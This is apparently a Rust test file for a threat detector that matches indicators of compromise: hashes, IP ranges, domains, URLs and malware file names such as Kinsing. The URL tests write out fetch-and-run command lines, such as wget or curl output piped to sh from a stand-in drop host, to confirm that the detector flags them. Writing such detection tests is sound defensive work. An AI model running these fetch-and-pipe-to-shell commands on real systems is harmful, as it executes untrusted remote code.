use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use picket_model::{Activity, Event, Fingerprint};
use proptest::prelude::*;

use super::ranges::Ranges;
use super::table::Table;
use crate::network::Network;
use crate::tests::play;
use crate::{Detector, IndicatorSource};

const HASH: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
const MD5: &str = "d41d8cd98f00b204e9800998ecf8427e";

fn detector() -> Detector {
    let texts = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
    let source = IndicatorSource {
        sha256: texts(&[&HASH.to_uppercase()]),
        addresses: texts(&[
            "203.0.113.9",
            "198.51.100.0/24",
            "2001:db8::/32",
            "2001:DB9:0::7",
            "::ffff:192.0.2.7",
            "::ffff:192.0.2.128/121",
        ]),
        domains: texts(&["Evil.example", "bücher.example."]),
        md5: texts(&[MD5]),
        urls: texts(&[
            "HTTP://Drop.example:80/x/a.sh",
            "http://drop.example/b,c;d(1).sh",
            "https://drop.example/y?id=1",
            "http://пример.рф./z",
        ]),
        file_names: texts(&["/tmp/.x/agent", "Kinsing"]),
    };
    Detector::compile(&[], &source).unwrap()
}

fn event(text: &str) -> Event {
    play::cases("t", &format!("hits:\n  - {text}\n")).hits.remove(0).events.remove(0)
}

fn hit(event: &Event) -> Option<(String, Vec<String>)> {
    let hits = detector().observe(event);
    assert!(hits.len() <= 1);
    hits.first().map(|hit| (hit.rule.id.to_string(), hit.rule.response.clone()))
}

fn words(list: &[&str]) -> Vec<String> {
    list.iter().map(|word| (*word).to_owned()).collect()
}

#[test]
fn executed_and_written_files_by_hash() {
    let mut launch = event("launch: {exe: /tmp/x}");
    assert_eq!(hit(&launch), None);
    let mut process = picket_model::Process::clone(launch.process.as_deref().unwrap());
    process.exe_sha256 = Some(HASH.parse().unwrap());
    launch.process = Some(Arc::new(process));
    let response = words(&["kill_tree", "quarantine_file", "deny_execution"]);
    assert_eq!(hit(&launch), Some(("indicator.sha256".to_owned(), response)));

    let mut write = event("write: {path: /srv/mail/x, by: {exe: /usr/sbin/postfix}}");
    if let Activity::File { file, .. } = &mut write.activity {
        file.sha256 = Some(HASH.parse().unwrap());
    }
    let (rule, response) = hit(&write).unwrap();
    assert_eq!(rule, "indicator.sha256_written");
    assert!(!response.contains(&"kill_tree".to_owned()), "whoever stores a bad file may be a server");

    for (executed, wanted) in [(true, "indicator.sha256"), (false, "indicator.sha256_written")] {
        let mut fingerprint = Fingerprint { executed, ..Fingerprint::default() };
        let event = |fingerprint: &Fingerprint| Event {
            activity: Activity::Fingerprint { fingerprint: fingerprint.clone() },
            ..write.clone()
        };
        assert_eq!(hit(&event(&fingerprint)), None);
        fingerprint.file.sha256 = Some(HASH.parse().unwrap());
        assert_eq!(hit(&event(&fingerprint)).unwrap().0, wanted);
    }
}

#[test]
fn addresses_exactly_by_range_and_by_direction() {
    for (text, wanted) in [
        ("connect: {to: 203.0.113.9, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: '::ffff:203.0.113.9', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: 198.51.100.77, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: '2001:db8::5', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("accept: {from: 203.0.113.9, port: 1, by: {exe: /x}}", Some(("indicator.address_accepted", 0))),
        ("connect: {to: '2001:db9::7', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: 192.0.2.7, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: 192.0.2.200, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: '::ffff:198.51.100.1', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
        ("connect: {to: 192.0.2.127, port: 1, by: {exe: /x}}", None),
        ("connect: {to: '2001:db9::8', port: 1, by: {exe: /x}}", None),
        ("connect: {to: '2001:dba::', port: 1, by: {exe: /x}}", None),
        // The same bytes in IPv6 are another address.
        ("connect: {to: '::198.51.100.1', port: 1, by: {exe: /x}}", None),
        ("connect: {to: 203.0.113.10, port: 1, by: {exe: /x}}", None),
        ("connect: {to: 198.51.101.1, port: 1, by: {exe: /x}}", None),
    ] {
        let found = hit(&event(text));
        let found = found.as_ref().map(|(rule, response)| (rule.as_str(), response.len()));
        assert_eq!(found, wanted, "{text}");
    }
}

#[test]
fn domains_with_all_below_them() {
    for (name, wanted) in [
        ("evil.example", true),
        ("EVIL.example.", true),
        ("a.b.evil.example", true),
        ("xn--bcher-kva.example", true),
        ("WWW.XN--BCHER-KVA.example.", true),
        ("bcher.example", false),
        ("notevil.example", false),
        ("evil.example.evil", false),
        ("evil-example", false),
        ("example", false),
        ("evil.example.org", false),
    ] {
        assert_eq!(hit(&event(&format!("dns: {{name: {name}, by: {{exe: /x}}}}"))).is_some(), wanted, "{name}");
    }
}

#[test]
fn malformed_entries_are_all_named() {
    let source = IndicatorSource {
        sha256: words(&["abc", HASH]),
        addresses: words(&["203.0.113.9", "300.1.1.1", "10.0.0.1/8"]),
        domains: words(&["a b.example", "com", "1.2.3.4", "ok.example"]),
        md5: words(&[MD5, "d41d"]),
        urls: words(&["drop.example/x", "http://", "http://a b/", "ftp://ok.example/f"]),
        file_names: words(&["", "a/b", "/tmp/", "/tmp/x", "x"]),
    };
    let errors = Detector::compile(&[], &source).unwrap_err();
    let shown: Vec<String> = errors.iter().map(ToString::to_string).collect();
    assert_eq!(shown.len(), 13, "{shown:#?}");
    for (error, wanted) in shown.iter().zip([
        "indicators.sha256:1:1: `abc`",
        "indicators.md5:2:1: `d41d`",
        "indicators.addresses:2:1: `300.1.1.1`",
        "indicators.addresses:3:1: `10.0.0.1/8`",
        "indicators.domains:1:1: `a b.example`",
    ]) {
        assert!(error.starts_with(wanted), "{error}");
    }
}

#[test]
fn an_md5_is_enough() {
    let mut print = Fingerprint { executed: true, ..Fingerprint::default() };
    let write = event("write: {path: /srv/x, by: {exe: /x}}");
    let of =
        |print: &Fingerprint| Event { activity: Activity::Fingerprint { fingerprint: print.clone() }, ..write.clone() };
    assert_eq!(hit(&of(&print)), None);
    print.md5 = MD5.to_owned();
    assert_eq!(hit(&of(&print)).unwrap().0, "indicator.sha256");
}

#[test]
fn urls_wherever_they_stand() {
    for (arguments, wanted) in [
        ("[curl, -s, 'http://drop.example/x/a.sh']", true),
        ("[sh, -c, 'wget -qO- \"http://DROP.example:80/x/a.sh/\"|sh']", true),
        ("[curl, 'http://drop.example/x/a.sh?from=7#top']", true),
        ("[curl, 'http://user:secret@drop.example/x/a.sh']", true),
        ("[curl, 'https://drop.example/y?id=1']", true),
        ("[curl, 'http://drop.example./x/a.sh']", true),
        ("[curl, 'http://ПРИМЕР.рф/z']", true),
        ("[curl, 'http://xn--e1afmkfd.xn--p1ai/z']", true),
        ("[sh, -c, 'a=$(curl http://drop.example/b,c;d(1).sh)']", true),
        // The program takes the scheme for granted.
        ("[curl, -o, /tmp/a, drop.example/x/a.sh]", true),
        ("[sh, -c, 'curl -s Drop.example/y?id=1|sh']", true),
        ("[curl, drop.example/x/b.sh]", false),
        ("[ls, /drop.example/x/a.sh]", false),
        ("[curl, 'https://drop.example/y']", false),
        ("[curl, 'https://drop.example/x/a.sh']", false),
        ("[curl, 'http://drop.example/x/a.sh2']", false),
        ("[echo, '://', drop.example]", false),
    ] {
        let found = hit(&event(&format!("launch: {{exe: /usr/bin/curl, argv: {arguments}}}")));
        assert_eq!(found, wanted.then(|| ("indicator.url".to_owned(), vec![])), "{arguments}");
    }
}

#[test]
fn scripts_by_hash_by_name_and_by_url() {
    let script = |path: &str, sha256: &str, content: &str| {
        let mut event =
            event(&format!("script: {{source: file, path: {path}, content: '{content}', by: {{exe: /bin/bash}}}}"));
        let Activity::Script { script } = &mut event.activity else { unreachable!() };
        script.sha256 = (!sha256.is_empty()).then(|| sha256.parse().unwrap());
        hit(&event)
    };
    assert_eq!(script("/srv/x.sh", &"a".repeat(64), "true"), None);
    let kill = words(&["kill_tree"]);
    assert_eq!(script("/srv/x.sh", HASH, ""), Some(("indicator.sha256_script".to_owned(), kill)));
    assert_eq!(script("/srv/Kinsing", "", "").unwrap().0, "indicator.file_name");
    assert_eq!(script("/srv/x.sh", "", "curl http://drop.example/x/a.sh").unwrap().0, "indicator.url");
}

#[test]
fn file_names_by_path_and_by_name() {
    for (text, wanted) in [
        ("launch: {exe: /tmp/.x/agent}", Some("indicator.file_name")),
        ("launch: {exe: /usr/bin/agent}", None),
        ("launch: {exe: /dev/shm/Kinsing}", Some("indicator.file_name")),
        ("launch: {exe: /dev/shm/kinsing}", None),
        ("write: {path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
        ("rename: {from: /root/k, path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
        ("create: {path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
        ("create: {path: /tmp/.x/agent/Kinsing2, by: {exe: /x}}", None),
        ("module: {name: k, path: /opt/Kinsing, by: {exe: /sbin/insmod}}", Some("indicator.file_name")),
        ("delete: {path: /root/Kinsing, by: {exe: /x}}", None),
    ] {
        assert_eq!(hit(&event(text)).map(|(rule, _)| rule), wanted.map(str::to_owned), "{text}");
    }
}

proptest! {
    #[test]
    fn ranges_are_those_of_each_by_itself(
        ranges in prop::collection::vec((any::<u32>(), 8..=32_u32), 0..40),
        asked in prop::collection::vec(any::<u32>(), 0..40),
    ) {
        let network = |(ip, prefix): &(u32, u32)| {
            let first = ip & u32::MAX.checked_shl(32 - prefix).unwrap_or(0);
            Network::parse(&format!("{}/{prefix}", Ipv4Addr::from_bits(first))).unwrap()
        };
        let networks: Vec<Network> = ranges.iter().map(network).collect();
        let found = Ranges::new(&networks);
        let edges = networks.iter().flat_map(|network| {
            let (first, last) = network.bounds();
            let IpAddr::V4(first) = first else { unreachable!() };
            let IpAddr::V4(last) = last else { unreachable!() };
            [first.to_bits().wrapping_sub(1), first.to_bits(), last.to_bits(), last.to_bits().wrapping_add(1)]
        });
        for ip in edges.chain(asked) {
            let ip = IpAddr::V4(ip.into());
            prop_assert_eq!(found.contains(ip), networks.iter().any(|network| network.contains(ip)));
        }
    }

    #[test]
    fn a_table_holds_what_it_was_given_and_nothing_else(
        marks in prop::collection::hash_set(any::<u128>(), 0..300),
        others in prop::collection::vec(any::<u128>(), 0..50),
    ) {
        let table = Table::new(marks.iter().copied().collect());
        prop_assert!(marks.iter().all(|mark| table.contains(*mark)));
        prop_assert!(others.iter().all(|other| table.contains(*other) == marks.contains(other)));
    }

    #[test]
    fn halves_find_what_the_whole_mark_finds(
        marks in prop::collection::vec((0..4_u64, 0..4_u64), 0..12),
        asked in prop::collection::vec((0..4_u64, 0..4_u64), 0..12),
    ) {
        let mark = |(upper, lower): &(u64, u64)| u128::from(*upper) << 64 | u128::from(*lower);
        let table = Table::new(marks.iter().map(mark).collect());
        for half in &asked {
            prop_assert_eq!(table.contains_halves(half.0, || half.1), marks.contains(half));
        }
    }

    #[test]
    fn no_text_breaks_the_search_for_urls(text in "[ -~:/é]{0,60}(://)?[ -~é]{0,30}") {
        prop_assert!(super::name::bare_urls_in(&text, 64).count() <= 64 * 9 * 3);
        prop_assert!(super::name::urls_in(&text, 64).count() <= 64 * 9);
        prop_assert!(super::name::url(&text).is_ok() || super::name::url(&text).unwrap_err().contains(&text));
    }
}
